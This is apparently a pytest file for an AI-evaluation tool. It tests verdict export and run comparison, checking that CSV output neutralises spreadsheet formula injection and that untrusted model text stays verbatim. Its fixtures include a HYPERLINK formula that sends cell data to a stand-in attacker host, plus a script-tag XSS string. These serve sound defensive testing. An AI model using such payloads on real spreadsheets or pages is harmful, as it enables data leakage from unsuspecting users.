"""Per-sample export and comparison formats, from real run directories (scripted server)."""

from __future__ import annotations

import asyncio
import csv
import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from scripted_server import ScriptedServer
from specalign.benchmark import load_benchmark
from specalign.errors import ConfigError
from specalign.runs import Evaluation, RunConfig, compare_runs, export_verdicts, format_comparison
from specbench_world import is_judge, world

REPO = Path(__file__).resolve().parent.parent


def _run(server, out, **kw):
    spec = f"openai:scripted-model@{server.base_url}"
    base = dict(
        data="bundled", scenarios=["child", "code"], limit=2, model=spec, judge=spec, out=str(out), concurrency=2
    )
    cfg = RunConfig(**{**base, **kw})
    return asyncio.run(Evaluation(cfg).run())


def _unreadable_for_code(body):
    if is_judge(body) and "secure coding" in body["messages"][1]["content"].lower():
        return "no verdicts here"
    return world(body)


def test_export_has_a_row_per_spec_verdict_and_one_per_unscored_sample(tmp_path):
    with ScriptedServer(_unreadable_for_code) as server:
        _run(server, tmp_path / "run", judge_attempts=1)
    n = export_verdicts([str(tmp_path / "run")], str(tmp_path / "v.csv"))
    rows = list(csv.DictReader((tmp_path / "v.csv").open()))
    child = load_benchmark("bundled").scenario("child")
    n_specs = len(child.safety_specs) + len(child.behavioral_specs)
    scored = [r for r in rows if r["status"] == "scored"]
    unscored = [r for r in rows if r["status"] == "unscored"]
    assert n == len(rows) == 2 * n_specs + 2
    assert {r["scenario"] for r in scored} == {"child"} and {r["scenario"] for r in unscored} == {"code"}
    assert all(r["spec_id"] == "" and "unreadable" in r["reason"] for r in unscored)
    b1 = [r for r in scored if r["spec_id"] == "B1"]
    assert all(r["verdict"] == "NA" and r["spec_kind"] == "behavioral" for r in b1)
    assert b1[0]["spec_text"] == child.behavioral_specs[0].text
    assert float(scored[0]["sar"]) == pytest.approx(
        0.3 + 0.7 * (len(child.behavioral_specs) - 1) / len(child.behavioral_specs)
    )


def test_export_jsonl_with_text_keeps_untrusted_text_verbatim(tmp_path):
    with ScriptedServer(lambda b: world(b) if is_judge(b) else '<script>alert(1)</script>, "quoted"\nline') as server:
        _run(server, tmp_path / "run", scenarios=["child"], limit=1)
    export_verdicts([str(tmp_path / "run")], str(tmp_path / "v.jsonl"), with_text=True)
    rows = [json.loads(x) for x in (tmp_path / "v.jsonl").read_text().splitlines()]
    assert rows and all(r["response"] == '<script>alert(1)</script>, "quoted"\nline' for r in rows)
    with pytest.raises(ConfigError, match="csv or .jsonl"):
        export_verdicts([str(tmp_path / "run")], str(tmp_path / "v.txt"))


def test_compare_formats_and_baseline(tmp_path):
    with ScriptedServer(world) as server:
        _run(server, tmp_path / "a", scenarios=["child"], limit=1)
        _run(server, tmp_path / "b", scenarios=["child"], limit=1, method="raw")
    rows = compare_runs([str(tmp_path / "a"), str(tmp_path / "b")], baseline="raw")
    assert [r.method for r in rows] == ["vanilla", "raw"] and rows[1].delta_sar == 0
    data = list(csv.DictReader(format_comparison(rows, "csv").splitlines()))
    assert data[0]["method"] == "vanilla" and float(data[0]["sar"]) == pytest.approx(rows[0].sar)
    assert json.loads(format_comparison(rows, "json"))[1]["label"] == "raw"
    hostile = rows[1].model_copy(update={"label": '=HYPERLINK("http://evil.example","x")', "delta_sar": -0.25})
    cells = list(csv.DictReader(format_comparison([rows[0], hostile], "csv").splitlines()))[1]
    assert cells["label"] == '\'=HYPERLINK("http://evil.example","x")'  # shown as text by spreadsheets
    assert float(cells["delta_sar"]) == -0.25  # numbers stay numbers
    with pytest.raises(ConfigError, match="none of the compared runs"):
        compare_runs([str(tmp_path / "a")], baseline="tpo")


EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


@pytest.mark.parametrize("raw", [False, True])
def test_export_csv_neutralises_formulas_unless_raw_cells(tmp_path, raw):
    """A model answer that is a spreadsheet formula is written as text ('=...), or verbatim with --raw-cells."""
    answers = iter([EVIL, "+1 call me", "'quoted", "@SUM(A1)", "plain"])
    with ScriptedServer(lambda b: world(b) if is_judge(b) else next(answers, "plain")) as server:
        _run(server, tmp_path / "run", scenarios=["child"], limit=2)
    out = tmp_path / "v.csv"
    cli = subprocess.run(
        [
            sys.executable,
            "-m",
            "specalign.cli",
            "export",
            str(tmp_path / "run"),
            "-o",
            str(out),
            "--with-text",
            *(["--raw-cells"] if raw else []),
        ],
        capture_output=True,
        text=True,
        env={**os.environ, "PYTHONPATH": str(REPO / "src")},
        timeout=120,
    )
    assert cli.returncode == 0, cli.stderr
    rows = list(csv.DictReader(out.open(newline="")))
    responses = {r["response"] for r in rows}
    if raw:
        assert EVIL in responses and "+1 call me" in responses
    else:
        assert "'" + EVIL in responses and "'+1 call me" in responses
        assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for v in r.values() if v)
    jsonl = tmp_path / "v.jsonl"
    export_verdicts([str(tmp_path / "run")], str(jsonl), with_text=True)
    assert EVIL in {json.loads(x)["response"] for x in jsonl.read_text().splitlines()}  # JSON lines: verbatim


def test_export_refuses_to_overwrite_the_run_it_reads(tmp_path):
    with ScriptedServer(world) as server:
        _run(server, tmp_path / "run", scenarios=["child"], limit=1)
    before = (tmp_path / "run" / "generations.jsonl").read_bytes()
    for name in ("generations.jsonl", "judgments.jsonl", "manifest.json"):
        with pytest.raises(ConfigError, match="is a file of the run"):
            export_verdicts([str(tmp_path / "run")], str(tmp_path / "run" / name), "jsonl")
    assert (tmp_path / "run" / "generations.jsonl").read_bytes() == before
    assert export_verdicts([str(tmp_path / "run")], str(tmp_path / "run" / "verdicts.csv")) > 0  # beside it is fine
